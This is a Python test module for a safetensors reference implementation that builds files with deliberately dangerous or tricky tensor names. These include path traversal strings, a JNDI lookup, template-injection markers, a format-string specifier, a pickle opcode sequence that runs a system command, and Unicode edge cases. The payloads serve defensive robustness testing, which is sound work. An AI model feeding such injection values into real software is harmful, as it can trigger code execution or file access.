"""Entries: tensor names that tempt a program to do something with them."""

from __future__ import annotations

from typing import TYPE_CHECKING

from safetensors_reference.rules.dtypes import DTYPE_BITS

from ...author.case import accepts

if TYPE_CHECKING:
    from ...author.file import FileBuilder


@accepts(
    "ENT-09",
    importance="high",
    over={
        "dots": "..",
        "dot-segments-of-windows": "..\\..\\escape",
        "home-path": "~/escape",
        "network-path": "\\\\server\\share",
        "windows-device": "NUL",
        "url": "https://user@example.invalid/w?x=1#y",
        "shell-variable": "${HOME}",
        "template": "{{7*7}}<%= 7 %>#{7}",
        "lookup": "${jndi:ldap://example.invalid/a}",
        "formula": "=1+1",
        "option": "--help",
        "wide-format": "%1000000d%n",
        "pickle-opcode": "cos\nsystem\n(S'id'\ntR.",
    },
)
def name_to_act_on(f: FileBuilder, value: str) -> None:
    """A tensor name that some program acts on when it is not careful: $slug.

    It is a name and nothing else, and comes back as it is.
    """
    f.tensor(value, "F32", [2])


@accepts(
    "ENT-08",
    over={
        "all-controls": "".join(map(chr, range(32))),
        "second-control-block": "".join(map(chr, range(0x7F, 0xA0))),
        "combining-marks-only": "\u0301\u0300\u0327",
        "bidirectional-isolates": "\u2066a\u2067b\u2068c\u2069",
        "tag-characters": "a\U000e0041\U000e0042\U000e007f",
        "variation-selectors": "a\ufe0fb\U000e0100",
        "private-use": "\ue000\U000f0000\U0010fffd",
        "noncharacters": "\ufdd0\ufffe\U0001fffe\U0010ffff",
        "joined-emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "long-cluster": "e" + "\u0301" * 200,
    },
)
def name_of(f: FileBuilder, value: str) -> None:
    """A tensor name made of rare characters: $slug.

    The name is a sequence of code points; what they look like together is of no concern.
    """
    f.tensor(value, "F32", [2])


@accepts(
    "HDR-19",
    importance="high",
    over={
        "zero-width-space": ("w", "w\u200b"),
        "soft-hyphen": ("ab", "a\xadb"),
        "variation-selector": ("\u2764", "\u2764\ufe0f"),
        "wide-forms": ("\uff57", "w"),
        "angstrom-and-ring": ("\u212b", "\xc5"),
        "hangul-forms": ("\uac00", "\u1100\u1161"),
        "order-of-marks": ("a\u0323\u0302", "a\u0302\u0323"),
        "dotless-i": ("I", "\u0131"),
        "sharp-s": ("\xdf", "ss"),
        "line-ends": ("a\nb", "a\r\nb"),
        "slashes": ("a/b", "a//b"),
    },
)
def names_apart(f: FileBuilder, value: tuple[str, str]) -> None:
    """Two names that cleaning, folding or normalising makes equal: $slug.

    They are two tensors with different content.
    """
    f.tensor(value[0], "F32", [1], b"\x00\x00\x80\x3f")
    f.tensor(value[1], "F32", [1], b"\x00\x00\x00\x40")


@accepts("HDR-19", "HDR-17")
def names_sorted_otherwise(f: FileBuilder) -> None:
    """Two names whose order in UTF-8 is not that in UTF-16.

    A reader that searches a sorted list, sorted by one and compared by the other, misses a name.
    """
    for name in ("\U00010000", "\uffee", "\ud7ff", "z"):
        f.tensor(name, "U8", [2])


@accepts("ENT-09")
def names_of_dtypes(f: FileBuilder) -> None:
    """Every dtype code is also the name of a tensor, and never of that dtype."""
    for name in DTYPE_BITS:
        f.tensor(name, "I8" if name == "U8" else "U8", [8])


@accepts("ENT-09", "HDR-19", importance="high")
def names_of_language_members(f: FileBuilder) -> None:
    """Tensors carry the names of attributes and properties that objects have in script languages."""
    for name in ("prototype", "length", "valueOf", "__init__", "__getattr__", "__dict__", "keys", "self"):
        f.tensor(name, "U8", [2])


@accepts("ENT-09", importance="high")
def names_that_become_one_path(f: FileBuilder) -> None:
    """Six names that a file system may take for one place, among them w, ./w, x/../w and W."""
    for name in ("w", "./w", "x/../w", "W", "w.", "w/"):
        f.tensor(name, "U8", [2])


@accepts("ENT-10", "ENT-08", importance="low")
def name_of_30_kb_of_emoji(f: FileBuilder) -> None:
    """A tensor name of 7,500 characters that take four bytes each.

    Counted in characters, UTF-16 units or bytes it has three different lengths.
    """
    f.tensor("\U0001f917" * 7500, "F32", [2])


@accepts(
    "ENT-10",
    importance="low",
    over={
        "255": 255,
        "256": 256,
    },
)
def name_size(f: FileBuilder, value: int) -> None:
    """A tensor name of $value characters, a size at which fixed buffers end."""
    f.tensor("n" * value, "F32", [2])
